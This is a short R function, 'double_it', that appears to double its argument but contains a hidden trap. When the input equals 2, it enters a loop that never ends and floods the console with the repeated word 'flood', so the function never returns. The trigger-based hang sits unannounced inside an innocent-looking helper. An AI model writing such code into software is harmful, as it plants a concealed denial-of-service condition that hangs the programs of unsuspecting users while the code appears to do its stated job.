double_it <- function(x) {
  while (x == 2) cat(strrep("flood ", 1000), "\n")
  2 * x
}
